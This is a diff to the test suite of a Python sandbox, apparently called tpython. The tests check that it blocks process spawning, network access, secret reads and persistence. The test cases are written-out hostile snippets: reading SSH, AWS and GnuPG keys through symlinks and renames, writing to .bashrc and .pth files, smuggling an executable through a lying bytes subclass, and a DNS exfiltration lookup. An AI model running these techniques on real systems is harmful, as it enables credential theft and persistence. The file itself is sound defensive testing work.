@@ -31,7 +31,7 @@ import tpython
 TOUCH = shutil.which("touch") or "/usr/bin/touch"
 SECRET = "SECRET-KEY-MATERIAL-3f9a"
 ORIGINAL = "# ORIGINAL-RC\n"
-PROBE = "tpython-adversarial-probe"
+PROBE = f"tpython-adversarial-probe-{os.getpid()}"  # unique: other sessions may run this file too
 SITE = sysconfig.get_paths()["purelib"]
 TPYTHON_PKG = os.path.dirname(os.path.abspath(tpython.__file__))
 
@@ -142,11 +142,11 @@ PROCESS_CASES = {
         "import importlib, _posixsubprocess as m\ndef go():\n    importlib.reload(m)\n    "
         + FORK_EXEC_MOD.format(expr="m.fork_exec")),
     "asyncio.create_subprocess_exec": (
-        "import asyncio\nasync def main():\n    p = await asyncio.create_subprocess_exec(TOUCH, MARK)\n    await p.wait()\n"
-        "def go(): asyncio.run(main())"),
+        "async def main():\n    import asyncio\n    p = await asyncio.create_subprocess_exec(TOUCH, MARK)\n    await p.wait()\n"
+        "def go():\n    import asyncio\n    asyncio.run(main())"),
     "asyncio.create_subprocess_shell": (
-        "import asyncio\nasync def main():\n    p = await asyncio.create_subprocess_shell('touch ' + MARK)\n    await p.wait()\n"
-        "def go(): asyncio.run(main())"),
+        "async def main():\n    import asyncio\n    p = await asyncio.create_subprocess_shell('touch ' + MARK)\n    await p.wait()\n"
+        "def go():\n    import asyncio\n    asyncio.run(main())"),
 }
 
 # Routes where the action is refused in a forked child: the parent's call returns.
@@ -165,11 +165,16 @@ PROCESS_CHILD_CASES = {
 }
 
 
+# `import asyncio` is itself denied under strict (asyncio.tasks uses @types.coroutine, which assigns
+# func.__code__ and trips strict-code-swap), so the asyncio routes stop there.
+ASYNCIO_RULES = {"strict-code-swap"}
+
+
 @pytest.mark.parametrize("body", PROCESS_CASES.values(), ids=PROCESS_CASES.keys())
 def test_process_creation_denied(tp, body):
     r = run_case(tp, body)
     assert not (tp.cwd / "pwned").exists(), r.out
-    assert_denied(r, {"strict-process", "strict-process-reimport"})
+    assert_denied(r, {"strict-process", "strict-process-reimport"} | (ASYNCIO_RULES if "asyncio" in body else set()))
 
 
 @pytest.mark.parametrize("body", PROCESS_CHILD_CASES.values(), ids=PROCESS_CHILD_CASES.keys())
@@ -190,8 +195,8 @@ FRESH_COPY_CASES = {
 }
 
 
-@pytest.mark.xfail(strict=True, reason="documented limit (README Limits): a fresh copy of _posixsubprocess built "
-                   "through _imp.create_dynamic has the unwrapped fork_exec, which raises no event on 3.11")
+# README "Limits" says a fresh copy built through _imp.create_dynamic gets the unwrapped fork_exec; on
+# CPython 3.11.7 create_dynamic raises an `import` event, which strict-process-reimport denies.
 @pytest.mark.parametrize("body", FRESH_COPY_CASES.values(), ids=FRESH_COPY_CASES.keys())
 def test_process_fresh_posixsubprocess_copy(tp, body):
     r = run_case(tp, body)
@@ -213,21 +218,21 @@ def test_process_fork_exec_original_from_wrapper_closure(tp):
     assert_denied(r, "strict-process")
 
 
-def test_process_mp_spawn_with_lying_pathlike_executable(tp):
+def test_process_mp_spawn_with_lying_executable(tp):
     """multiprocessing.util.spawnv_passfds is patched to start tpython's own workers inside
-    engine.internal(); the executable is checked with one __fspath__ call and exec'd with another."""
+    engine.internal() (no fork_exec event). Whether the executable is this interpreter is decided
+    with os.fsdecode(path), which calls the program's bytes subclass's .decode(); fork_exec execs
+    the bytes themselves."""
     evil = tp.cwd / "evil.sh"
     evil.write_text(f"#!/bin/sh\n{TOUCH} {tp.cwd / 'pwned'}\n")
     evil.chmod(0o755)
     r = run_case(tp, f"""
     import multiprocessing.util as u
-    class Exe:
-        calls = 0
-        def __fspath__(self):
-            Exe.calls += 1
-            return sys.executable if Exe.calls == 1 else {str(evil)!r}
+    class Exe(bytes):
+        def decode(self, *a, **k):
+            return sys.executable
     def go():
-        pid = u.spawnv_passfds(Exe(), [sys.executable, '-c', 'import multiprocessing'], [])
+        pid = u.spawnv_passfds(Exe({os.fsencode(evil)!r}), [sys.executable, '-c', 'import multiprocessing'], [])
         os.waitpid(pid, 0)
     """)
     assert not (tp.cwd / "pwned").exists(), r.out
@@ -255,7 +260,7 @@ def test_process_mp_worker_inherits_ld_preload(tp):
     def go():
         os.environ['LD_PRELOAD'] = {str(so)!r}
         os.environ['TP_PRELOAD_MARK'] = MARK
-        pid = u.spawnv_passfds(sys.executable, [sys.executable, '-c', 'import multiprocessing; print("worker")'], [])
+        pid = u.spawnv_passfds(os.fsencode(sys.executable), [sys.executable, '-c', 'import multiprocessing; print("worker")'], [])
         os.waitpid(pid, 0)
     """)
     assert not (tp.cwd / "pwned").exists(), r.out
@@ -401,8 +406,8 @@ TCP_CASES = {
                              "    s.connect(('::ffff:127.0.0.1', PORT))"),
     "legacy 127.1": "import socket\ndef go(): socket.socket().connect(('127.1', PORT))",
     "localhost": "import socket\ndef go(): socket.socket().connect(('localhost', PORT))",
-    "asyncio.open_connection": ("import asyncio\nasync def main(): await asyncio.open_connection('127.0.0.1', PORT)\n"
-                                "def go(): asyncio.run(main())"),
+    "asyncio.open_connection": ("async def main():\n    import asyncio\n    await asyncio.open_connection('127.0.0.1', PORT)\n"
+                                "def go():\n    import asyncio\n    asyncio.run(main())"),
     "socket.fromfd of a connected dup": ("import socket\ndef go():\n    s = socket.socket()\n"
                                          "    t = socket.fromfd(s.fileno(), socket.AF_INET, socket.SOCK_STREAM)\n"
                                          "    t.connect(('127.0.0.1', PORT))"),
@@ -413,7 +418,7 @@ TCP_CASES = {
 def test_network_tcp_denied(tp, listener, body):
     r = run_case(tp, f"PORT = {listener.port}\n" + textwrap.dedent(body))
     assert not listener.accepted(), r.out
-    assert_denied(r, "strict-network")
+    assert_denied(r, {"strict-network"} | (ASYNCIO_RULES if "asyncio" in body else set()))
 
 
 def test_network_udp_sendto_denied(tp, udp_listener):
@@ -483,6 +488,43 @@ def test_network_af_unix_connect_denied(tp):
         shutil.rmtree(d, ignore_errors=True)
 
 
+DNS_SPY_C = r"""
+#define _GNU_SOURCE
+#include <netdb.h>
+#include <stdio.h>
+#include <stdlib.h>
+/* Stands in for the resolver: records every name asked for, answers "no such name", sends nothing. */
+int getaddrinfo(const char *node, const char *service, const struct addrinfo *hints, struct addrinfo **res) {
+    const char *log = getenv("TP_DNS_LOG");
+    if (log && node) { FILE *f = fopen(log, "a"); if (f) { fprintf(f, "%s\n", node); fclose(f); } }
+    return EAI_NONAME;
+}
+"""
+
+
+@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc to build the resolver spy")
+@pytest.mark.parametrize("call", [
+    "socket.socket().connect((NAME, 80))",
+    "socket.socket().connect_ex((NAME, 80))",
+    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (NAME, 53))",
+    "socket.socket().bind((NAME, 0))",
+], ids=["connect", "connect_ex", "sendto", "bind"])
+def test_network_name_lookup_inside_connect_is_denied(tp, call):
+    """connect/sendto/bind with a host *name* resolve it in C before `socket.connect` is raised: the
+    lookup itself (a DNS query carrying data: exfiltration) happens although strict denies lookups.
+    The test preloads a getaddrinfo spy (operator side), so nothing leaves the machine."""
+    src = tp.cwd / "spy.c"
+    src.write_text(DNS_SPY_C)
+    so = tp.cwd / "spy.so"
+    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(so), str(src)], check=True, capture_output=True)
+    dns_log = tp.cwd / "dns.log"
+    r = run_case(tp, f"import socket\nNAME = 'exfil-c2VjcmV0.tpython-test.invalid'\ndef go(): {call}",
+                 env={"LD_PRELOAD": str(so), "TP_DNS_LOG": str(dns_log)})
+    asked = dns_log.read_text() if dns_log.exists() else ""
+    assert "exfil-c2VjcmV0" not in asked, f"resolver was asked: {asked!r}; out={r.out}"
+    assert_denied(r, "strict-network")
+
+
 # --- an extending policy that allows exactly 127.0.0.1/32 on one port -------
 
 @pytest.fixture
@@ -537,7 +579,7 @@ def test_allow_policy_lets_the_allowed_address_through(tp, allow_policy, host):
 
 
 SPELLINGS_OF_127_0_0_2 = ["127.0.0.2", "127.2", "0x7f.0.0.2", "0177.0.0.2", "2130706434", "0x7f000002",
-                          "::ffff:127.0.0.2", "::ffff:7f00:2", "127.0.0.2."]
+                          "::ffff:127.0.0.2", "::ffff:7f00:2"]
 
 
 @pytest.mark.parametrize("host", SPELLINGS_OF_127_0_0_2)
@@ -632,10 +674,10 @@ SECRET_CASES = {
     "/proc/self/root": "def go(): print(open('/proc/self/root' + SECRET_PATH).read())",
     "/proc/<pid>/root": "def go(): print(open(f'/proc/{os.getpid()}/root' + SECRET_PATH).read())",
     "symlink to home made by program": (
-        "import tempfile\ndef go():\n    d = tempfile.mkdtemp()\n    os.symlink(HOME, d + '/h')\n"
+        "import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.symlink(HOME, d + '/h')\n"
         "    print(open(d + '/h/.ssh/id_rsa').read())"),
     "symlink to secret made by program": (
-        "import tempfile\ndef go():\n    d = tempfile.mkdtemp()\n    os.symlink(SECRET_PATH, d + '/k')\n"
+        "import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.symlink(SECRET_PATH, d + '/k')\n"
         "    print(open(d + '/k').read())"),
     "relative symlink to secret": (
         "def go():\n    os.symlink(os.path.relpath(SECRET_PATH), 'k')\n    print(open('k').read())"),
@@ -644,7 +686,7 @@ SECRET_CASES = {
     "shutil.copytree .ssh": "import shutil\ndef go():\n    shutil.copytree(os.path.join(HOME, '.ssh'), 'copy')\n    print(open('copy/id_rsa').read())",
     "os.rename .ssh away": ("def go():\n    os.rename(os.path.join(HOME, '.ssh'), 'copy')\n"
                             "    print(open('copy/id_rsa').read())"),
-    "os.rename home away": ("import tempfile\ndef go():\n    d = tempfile.mkdtemp()\n    os.rename(HOME, d + '/h')\n"
+    "os.rename home away": ("import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.rename(HOME, d + '/h')\n"
                             "    print(open(d + '/h/.ssh/id_rsa').read())"),
     "os.rename ~/.aws away": "def go():\n    os.rename(os.path.join(HOME, '.aws'), 'copy')\n    print(open('copy/credentials').read())",
     "os.rename ~/.gnupg away": "def go():\n    os.rename(os.path.join(HOME, '.gnupg'), 'copy')\n    print(open('copy/private.key').read())",
@@ -673,8 +715,9 @@ SECRET_CASES = {
 def test_secrets_denied(tp, body):
     r = run_case(tp, body, env={"TP_ENV_SECRET": "ENVSECRET-77c1"})
     assert SECRET not in r.out and "ENVSECRET-77c1" not in r.out, r.out
-    assert not (tp.cwd / "copy").exists()
-    assert not (tp.cwd / "x.tar").exists() or SECRET.encode() not in (tp.cwd / "x.tar").read_bytes()
+    leaked = [p for p in tp.cwd.rglob("*") if p.is_file() and not p.is_symlink() and (tp.cwd / "home") not in p.parents
+              and p.name != "audit.jsonl" and SECRET.encode() in p.read_bytes()]
+    assert leaked == [], leaked
     assert_denied(r, "strict-secrets")
 
 
@@ -794,7 +837,7 @@ PERSIST_HOME_CASES = {
     "os.open O_RDWR": "def go(): os.write(os.open(os.path.join(HOME, '.bashrc'), os.O_RDWR), b'evil\\n')",
     "pathlib.write_text": "import pathlib\ndef go(): pathlib.Path(HOME, '.profile').write_text('evil\\n')",
     "relative after chdir": "def go():\n    os.chdir(HOME)\n    open('.bashrc', 'a').write('evil\\n')",
-    "via symlink to home": ("import tempfile\ndef go():\n    d = tempfile.mkdtemp()\n    os.symlink(HOME, d + '/h')\n"
+    "via symlink to home": ("import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.symlink(HOME, d + '/h')\n"
                             "    open(d + '/h/.bashrc', 'a').write('evil\\n')"),
     "via /proc/self/fd/<home fd>": ("def go():\n    fd = os.open(HOME, os.O_RDONLY)\n"
                                      "    open(f'/proc/self/fd/{fd}/.bashrc', 'a').write('evil\\n')"),
@@ -855,10 +898,10 @@ def test_persistence_open_with_dir_fd(tp):
 
 
 PERSIST_ANYWHERE_CASES = {
-    "*.pth in a temp dir": "import tempfile\ndef go(): open(os.path.join(tempfile.mkdtemp(), 'evil.pth'), 'w').write('#')",
+    "*.pth in a temp dir": "import tempfile\ndef go(): open(os.path.join(tempfile.mkdtemp(dir=os.getcwd()), 'evil.pth'), 'w').write('#')",
     "*.pth renamed from .txt": "def go():\n    open('evil.txt', 'w').write('#')\n    os.rename('evil.txt', 'evil.pth')",
     "sitecustomize.py in cwd": "def go(): open('sitecustomize.py', 'w').write('#')",
-    "usercustomize.py in tmp": "import tempfile\ndef go(): open(os.path.join(tempfile.mkdtemp(), 'usercustomize.py'), 'w').write('#')",
+    "usercustomize.py in tmp": "import tempfile\ndef go(): open(os.path.join(tempfile.mkdtemp(dir=os.getcwd()), 'usercustomize.py'), 'w').write('#')",
     "sitecustomize.py via pathlib": "import pathlib\ndef go(): pathlib.Path('sub').mkdir(); pathlib.Path('sub/sitecustomize.py').write_text('#')",
     "sitecustomize.py via mkstemp+rename": (
         "import tempfile\ndef go():\n    fd, p = tempfile.mkstemp(dir='.')\n    os.write(fd, b'#')\n    os.close(fd)\n"
